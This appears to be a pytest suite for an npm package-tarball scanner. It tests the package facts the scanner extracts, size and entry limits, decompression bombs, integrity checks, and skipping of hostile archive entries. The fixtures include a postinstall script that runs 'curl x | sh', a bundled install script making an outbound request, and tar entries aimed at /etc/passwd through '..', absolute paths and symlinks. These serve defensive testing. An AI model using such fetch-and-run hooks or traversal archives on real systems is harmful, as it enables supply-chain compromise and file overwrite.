"""The in-memory tarball reader: facts, limits and hostile entries."""

from __future__ import annotations

import gzip
import json
import tarfile

import pytest
from fakeregistry import TarEntry, build_tarball, sha1_hex, sri_sha1, sri_sha512

from npmguard.registry.tarball import (
    IntegrityError,
    TarballError,
    TarballLimits,
    inspect_tarball,
    integrity_from_shasum,
    read_tarball,
    verify_integrity,
)

MANIFEST = {
    "name": "demo",
    "version": "1.0.0",
    "main": "lib/index.js",
    "scripts": {"postinstall": "node scripts/setup.js && sh ./run.sh", "test": "jest"},
    "dependencies": {"left-pad": "^1.3.0"},
}


def _files(**extra: str) -> dict[str, str]:
    return {
        "package/package.json": json.dumps(MANIFEST),
        "package/lib/index.js": "module.exports = 1;\n",
        "package/scripts/setup.js": "require('child_process').exec('curl x | sh');\n",
        "package/run.sh": "#!/bin/sh\necho hi\n",
        "package/README.md": "# demo\n",
        "package/cli.js": "#!/usr/bin/env node\n",
        **{f"package/{k}": v for k, v in extra.items()},
    }


def test_reads_facts_of_a_normal_package() -> None:
    data = build_tarball(_files())
    facts = read_tarball(data, name="demo@1.0.0", integrity=sri_sha512(data))
    assert facts.integrity_checked is True
    assert facts.files == (
        "README.md", "cli.js", "lib/index.js", "package.json", "run.sh", "scripts/setup.js",
    )  # fmt: skip
    assert facts.has_code is True
    assert facts.has_tea_yaml is False
    assert facts.manifest_scripts == MANIFEST["scripts"]
    assert facts.manifest_dependencies == {"left-pad": "^1.3.0"}
    assert facts.unpacked_size == sum(len(v.encode()) for v in _files().values())
    assert list(facts.texts) == ["package.json", "scripts/setup.js", "run.sh", "cli.js"]
    assert "curl x | sh" in facts.texts["scripts/setup.js"]
    assert "README.md" not in facts.texts and "lib/index.js" not in facts.texts


def test_any_single_top_folder_is_stripped_and_tea_yaml_found() -> None:
    data = build_tarball({"node/package.json": "{}", "node/tea.yaml": "---\n", "node/README": "x"})
    facts = read_tarball(data)
    assert facts.files == ("README", "package.json", "tea.yaml")
    assert facts.has_tea_yaml is True
    assert facts.has_code is False  # a spam package: no code at all
    assert facts.integrity_checked is False


@pytest.mark.parametrize(
    ("files", "has_code"),
    [
        ({"package/package.json": "{}", "package/index.d.ts": "export {}"}, True),
        (
            {
                "package/package.json": "{}",
                "package/.eslintrc.js": "x",
                "package/jest.config.js": "x",
            },
            False,
        ),
        ({"package/package.json": '{"main": "data.json"}', "package/data.json": "{}"}, True),
        ({"package/package.json": '{"bin": {"x": "bin/x"}}', "package/bin/x": "#!/bin/sh"}, True),
        ({"package/package.json": '{"main": "gone.js"}'}, False),
    ],
)
def test_has_code(files: dict[str, str], has_code: bool) -> None:
    assert read_tarball(build_tarball(files)).has_code is has_code


def test_script_target_without_extension_and_deep_in_the_package() -> None:
    files = {f"package/deep/f{i}.js": "x" for i in range(5)}
    files["package/package.json"] = json.dumps({"scripts": {"install": "node deep/hook"}})
    files["package/deep/hook.js"] = "evil()"
    facts = read_tarball(build_tarball(files))
    assert facts.texts["deep/hook.js"] == "evil()"


def test_texts_are_capped_per_file_and_in_total() -> None:
    limits = TarballLimits(max_text=100, max_texts_total=250)
    files = {"package/package.json": "{}", **{f"package/{c}.js": c * 1000 for c in "abcd"}}
    facts = read_tarball(build_tarball(files), limits=limits)
    assert all(len(t) <= 100 for t in facts.texts.values())
    assert sum(len(t) for t in facts.texts.values()) <= 250
    assert "package.json" in facts.texts


@pytest.mark.parametrize(
    ("entry", "reason"),
    [
        (TarEntry("package/../../etc/passwd", b"x"), "'..' in path"),
        (TarEntry("/etc/passwd", b"x"), "absolute path"),
        (
            TarEntry("package/link", type=tarfile.SYMTYPE, linkname="/etc/passwd"),
            "symlink -> /etc/passwd",
        ),
        (
            TarEntry("package/hard", type=tarfile.LNKTYPE, linkname="package/index.js"),
            "hardlink -> package/index.js",
        ),
        (TarEntry("package/dev", type=tarfile.CHRTYPE), "device or special file"),
        (TarEntry("package/fifo", type=tarfile.FIFOTYPE), "device or special file"),
        (TarEntry("toplevel.js", b"x"), "outside the package folder"),
    ],
)
def test_hostile_entries_are_skipped_and_recorded(entry: TarEntry, reason: str) -> None:
    data = build_tarball({"package/package.json": "{}", "package/index.js": "1"}, entries=(entry,))
    reading = inspect_tarball(data, name="evil@1.0.0")
    assert [(s.path, s.reason) for s in reading.skipped] == [(entry.name, reason)]
    assert reading.facts.files == ("index.js", "package.json")


def test_decompression_bomb_is_stopped() -> None:
    data = build_tarball(
        {"package/package.json": "{}", "package/zeros.bin": b"\0" * (8 * 1024 * 1024)}
    )
    assert len(data) < 20_000  # a ratio of several hundred to one
    with pytest.raises(TarballError, match=r"^bomb@1\.0\.0: .*(unpacks|unpacked)"):
        read_tarball(data, name="bomb@1.0.0", limits=TarballLimits(max_unpacked=1024 * 1024))


def test_too_many_files() -> None:
    data = build_tarball({f"package/f{i}.js": "" for i in range(60)})
    with pytest.raises(TarballError, match=r"^many@1: more than 50 entries"):
        read_tarball(data, name="many@1", limits=TarballLimits(max_entries=50))


def test_compressed_size_limit() -> None:
    data = build_tarball({"package/package.json": "{}"})
    with pytest.raises(TarballError, match=r"^big@1: tarball is .* over the 0 MB limit"):
        read_tarball(data, name="big@1", limits=TarballLimits(max_compressed=10))


@pytest.mark.parametrize("data", [b"not a tarball", gzip.compress(b"not a tar either" * 100), b""])
def test_garbage_is_a_clear_error(data: bytes) -> None:
    with pytest.raises(TarballError, match=r"^junk@1: "):
        read_tarball(data, name="junk@1")


def test_missing_or_broken_manifest_is_reported() -> None:
    assert (
        inspect_tarball(build_tarball({"package/a.js": "1"})).manifest_error
        == "no package.json in the tarball"
    )
    broken = inspect_tarball(build_tarball({"package/package.json": "{nope"}))
    assert broken.manifest_error is not None and "not valid JSON" in broken.manifest_error
    assert broken.facts.manifest_scripts == {}


def test_integrity() -> None:
    data = build_tarball({"package/package.json": "{}"})
    assert verify_integrity(data, sri_sha512(data)) == "sha512"
    assert verify_integrity(data, sri_sha1(data)) == "sha1"
    assert verify_integrity(data, integrity_from_shasum(sha1_hex(data))) == "sha1"
    # the strongest algorithm decides: a good sha1 does not excuse a bad sha512
    with pytest.raises(IntegrityError, match=r"^pkg@1: integrity mismatch"):
        verify_integrity(data, f"{sri_sha1(data)} sha512-AAAA", what="pkg@1")
    with pytest.raises(IntegrityError, match="no usable integrity"):
        verify_integrity(data, None)
    with pytest.raises(IntegrityError, match="no usable integrity"):
        verify_integrity(data, "md5-abc")
    with pytest.raises(IntegrityError):
        read_tarball(data, integrity=sri_sha512(data + b"x"))


def test_bundled_packages_install_scripts_by_path() -> None:
    def manifest(name: str, **more: object) -> str:
        return json.dumps({"name": name, "version": "1.0.0", **more})

    data = build_tarball(
        {
            "package/package.json": manifest("parent", bundleDependencies=["a", "@s/b"]),
            "package/node_modules/a/package.json": manifest(
                "a", scripts={"postinstall": "node setup", "test": "jest"}
            ),
            "package/node_modules/a/setup.js": "require('https').get('http://x')\n",
            "package/node_modules/@s/b/package.json": manifest("@s/b"),
            "package/node_modules/@s/b/binding.gyp": "{}",
            "package/node_modules/@s/b/node_modules/c/package.json": manifest(
                "c", scripts={"preinstall": "sh x.sh"}
            ),
            "package/node_modules/@s/b/node_modules/c/x.gyp": "{}",
            "package/node_modules/d/package.json": manifest("d", gypfile=False),
            "package/node_modules/d/binding.gyp": "{}",
            "package/node_modules/e/package.json": "{not json",
            "package/node_modules/a/lib/package.json": manifest("not-a-package"),
        }
    )
    facts = read_tarball(data)
    assert facts.bundled_scripts == {
        "node_modules/a": {"postinstall": "node setup"},
        "node_modules/@s/b": {"install": "node-gyp rebuild (implicit: binding.gyp)"},
        "node_modules/@s/b/node_modules/c": {"preinstall": "sh x.sh"},
    }
    assert "https" in facts.texts["node_modules/a/setup.js"]  # the file the script runs
    assert "node_modules/a/package.json" in facts.files
    assert facts.manifest_scripts == {}
